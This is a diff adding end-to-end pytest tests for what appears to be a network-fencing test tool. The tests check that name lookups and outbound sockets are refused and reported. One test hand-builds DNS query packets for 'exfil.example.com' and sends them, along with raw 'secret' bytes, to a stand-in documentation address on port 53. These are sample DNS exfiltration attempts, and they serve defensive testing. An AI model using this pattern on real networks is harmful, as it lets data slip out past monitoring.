@@ -1,0 +1,99 @@
+"""Way out: looking up a name, which tells a stranger's server something. The report names the domain."""
+
+from __future__ import annotations
+
+from tests.end_to_end.caught import Fenced
+
+
+def test_getaddrinfo(fenced: Fenced) -> None:
+    run = fenced.run(
+        """
+        import socket, time
+        import pytest
+        from here import HELLO, PORT
+
+        def test_away():
+            start = time.monotonic()
+            with pytest.raises(socket.gaierror):
+                socket.getaddrinfo("api.stripe.com", 443)
+            assert time.monotonic() - start < 4  # the first of libc's time-outs is five seconds
+
+        def test_older_interface():
+            with pytest.raises(socket.gaierror):
+                socket.gethostbyname("www.Example.COM")
+
+        def test_create_connection():
+            with pytest.raises(socket.gaierror):
+                socket.create_connection(("db.example.com", 5432), timeout=5)
+
+        def test_two_names():
+            for name in "a.example.com", "b.example.com", "a.example.com":
+                with pytest.raises(socket.gaierror):
+                    socket.getaddrinfo(name, 80)
+
+        def test_names_that_do_not_exist_by_definition():
+            with pytest.raises(socket.gaierror):
+                socket.getaddrinfo("nowhere.invalid", 80)
+
+        def test_loopback():
+            with socket.create_connection(("localhost", PORT), timeout=5) as s:
+                assert s.recv(99) == HELLO
+            assert socket.getaddrinfo("127.0.0.1", 80)
+        """
+    )
+    run.refused("test_away", "resolve api.stripe.com", line='socket.getaddrinfo("api.stripe.com", 443)', count=None)
+    run.refused("test_older_interface", "resolve www.example.com", count=None)
+    run.refused("test_create_connection", "resolve db.example.com", count=None)
+    two = run.attempts("test_two_names")
+    assert [v.what for v in two] == ["resolve a.example.com", "resolve b.example.com"], run
+    run.clean("test_names_that_do_not_exist_by_definition", "test_loopback")
+
+
+def test_a_query_written_by_hand(fenced: Fenced) -> None:
+    """What does not go by way of libc: no name server is ever asked, and the name is known all the same."""
+    run = fenced.run(
+        """
+        import errno, socket, struct
+        import pytest
+        from here import AWAY
+
+        def query(name):
+            labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+            return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)
+
+        def test_unconnected():
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(OSError) as caught:
+                s.sendto(query("exfil.example.com"), (AWAY, 53))
+            assert caught.value.errno == errno.ECONNREFUSED
+
+        def test_connected():
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+                s.settimeout(10)
+                s.connect((AWAY, 53))
+                s.send(query("exfil.example.com"))
+                answer = s.recv(512)
+            assert answer[3] & 15 == 3  # NXDOMAIN
+
+        def test_by_tcp():
+            with socket.socket() as s, pytest.raises(PermissionError):
+                s.connect((AWAY, 53))
+
+        def test_no_query_at_all():
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(PermissionError):
+                s.sendto(b"secret", (AWAY, 53))
+
+        def test_no_query_at_all_connected():
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+                s.settimeout(10)
+                s.connect((AWAY, 53))
+                s.send(b"secret")
+                s.send(query("exfil.example.com"))
+                s.recv(512)
+        """
+    )
+    run.refused("test_unconnected", "resolve exfil.example.com")
+    run.refused("test_connected", "resolve exfil.example.com")
+    run.refused("test_by_tcp", "connect 198.51.100.7:53/tcp")
+    run.refused("test_no_query_at_all", "connect 198.51.100.7:53/udp")
+    both = run.attempts("test_no_query_at_all_connected")
+    assert [v.what for v in both] == ["connect 198.51.100.7:53/udp", "resolve exfil.example.com"], run
